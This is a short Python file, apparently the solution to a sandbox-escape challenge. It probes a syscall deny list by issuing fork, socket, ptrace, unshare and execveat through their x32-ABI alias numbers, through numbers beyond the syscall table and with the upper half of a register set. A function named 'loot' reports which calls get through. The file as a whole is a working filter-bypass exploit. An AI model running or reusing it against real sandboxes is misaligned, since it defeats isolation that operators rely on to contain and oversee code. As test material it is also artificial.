"""Makes system calls of the x32 kind, with numbers beyond the last, and with the upper half of a register set.

Elsewhere: a list of forbidden numbers has no entry for the same call by another number.
"""

# %% solution="value"
import platform

from toolbox import each, reached, syscall, tell, won

X32 = 0x40000000
# fork, socket, ptrace, unshare, execveat, in the table of x32
CALLS = [X32 + n for n in (57, 41, 521, 272, 545)]


def call(number):
    if platform.machine() != "x86_64":
        raise OSError("no other table here")
    return won(syscall(number, 2, 1, 0, 0, 0))


def loot():
    reached()
    return each(call, [*CALLS, 2**32 + 41, 470, 512, 547, 4095])


def attribute(prompt, x):
    return tell(loot)
